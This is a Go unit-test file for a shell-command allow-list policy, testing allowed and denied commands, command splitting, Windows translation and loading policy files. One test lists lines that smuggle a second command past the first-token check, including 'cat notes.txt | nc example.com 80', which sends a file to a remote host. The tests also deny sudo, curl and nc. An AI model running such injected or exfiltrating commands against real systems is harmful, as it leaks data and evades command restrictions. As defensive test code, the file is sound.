package policy

import (
	"errors"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestIsAllowed(t *testing.T) {
	p := Default()

	tests := []struct {
		name    string
		command string
		want    bool
	}{
		{"listing", "ls", true},
		{"case insensitive", "LS", true},
		{"mixed case runtime", "Python", true},
		{"version control", "git", true},
		{"clear screen", "cls", true},
		{"not listed", "whoami", false},
		{"privilege escalation", "sudo", false},
		{"network tool", "curl", false},
		{"empty", "", false},
		{"path to allowed binary", "/bin/ls", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, p.IsAllowed(tt.command))
		})
	}
}

func TestCheckWrapsSentinel(t *testing.T) {
	p := Default()

	assert.NoError(t, p.Check("echo"))

	err := p.Check("nc")
	require.Error(t, err)
	assert.True(t, errors.Is(err, ErrNotAllowed))
	assert.Contains(t, err.Error(), "nc")
}

// The allow-list only looks at the first token. Metacharacters inside the
// arguments of an allowed command are not filtered; confinement and shell
// permissions are what bound them.
func TestFirstTokenBoundary(t *testing.T) {
	p := Default()

	for _, line := range []string{
		"echo hi; whoami",
		"echo $(id)",
		"cat notes.txt | nc example.com 80",
		"ls > /tmp/out",
	} {
		name, _ := Split(line)
		assert.True(t, p.IsAllowed(name), "first token of %q is allowed", line)
	}
}

func TestSplit(t *testing.T) {
	tests := []struct {
		line string
		name string
		rest string
	}{
		{"ls", "ls", ""},
		{"  ls   -la  ", "ls", "-la"},
		{"cd ../..", "cd", "../.."},
		{"echo a  b\tc", "echo", "a  b\tc"},
		{"git\tstatus", "git", "status"},
		{"", "", ""},
	}

	for _, tt := range tests {
		name, rest := Split(tt.line)
		assert.Equal(t, tt.name, name, "name of %q", tt.line)
		assert.Equal(t, tt.rest, rest, "rest of %q", tt.line)
	}
}

func TestTranslator(t *testing.T) {
	p := Default()

	t.Run("windows maps command token only", func(t *testing.T) {
		tr := p.Translator(PlatformWindows)
		assert.Equal(t, PlatformWindows, tr.Platform())

		tests := map[string]string{
			"ls":                "dir",
			"ls -la":            "dir -la",
			"cat ls.txt":        "type ls.txt",
			"touch notes.txt":   "type nul > notes.txt",
			"rm cp mv":          "del cp mv",
			"echo ls > out.txt": "echo ls > out.txt",
			"git status":        "git status",
			"CLEAR":             "cls",
		}
		for in, want := range tests {
			assert.Equal(t, want, tr.Translate(in), "translate %q", in)
		}
	})

	t.Run("posix is identity", func(t *testing.T) {
		tr := p.Translator(PlatformPOSIX)
		assert.Equal(t, "ls -la > out.txt", tr.Translate("ls -la > out.txt"))
	})
}

func TestLoadFile(t *testing.T) {
	dir := t.TempDir()

	t.Run("yaml replaces defaults", func(t *testing.T) {
		path := filepath.Join(dir, "policy.yaml")
		require.NoError(t, os.WriteFile(path, []byte("allow: [ls, go]\n"), 0o644))

		p, err := LoadFile(path)
		require.NoError(t, err)
		assert.Equal(t, []string{"go", "ls"}, p.Allowed())
		assert.False(t, p.IsAllowed("rm"))
	})

	t.Run("toml inherits defaults", func(t *testing.T) {
		path := filepath.Join(dir, "policy.toml")
		content := "allow = [\"go\"]\ninherit = true\n\n[translations.windows]\ngo = \"go.exe\"\n"
		require.NoError(t, os.WriteFile(path, []byte(content), 0o644))

		p, err := LoadFile(path)
		require.NoError(t, err)
		assert.True(t, p.IsAllowed("go"))
		assert.True(t, p.IsAllowed("rm"))
		assert.Equal(t, "go.exe build", p.Translator(PlatformWindows).Translate("go build"))
		assert.Equal(t, "dir", p.Translator(PlatformWindows).Translate("ls"))
	})

	t.Run("unknown extension", func(t *testing.T) {
		path := filepath.Join(dir, "policy.json")
		require.NoError(t, os.WriteFile(path, []byte("{}"), 0o644))

		_, err := LoadFile(path)
		assert.Error(t, err)
	})

	t.Run("empty allow list rejected", func(t *testing.T) {
		path := filepath.Join(dir, "empty.yml")
		require.NoError(t, os.WriteFile(path, []byte("allow: []\n"), 0o644))

		_, err := LoadFile(path)
		assert.Error(t, err)
	})

	t.Run("unknown platform rejected", func(t *testing.T) {
		path := filepath.Join(dir, "bad.yaml")
		require.NoError(t, os.WriteFile(path, []byte("allow: [ls]\ntranslations:\n  plan9:\n    ls: lc\n"), 0o644))

		_, err := LoadFile(path)
		assert.Error(t, err)
	})
}
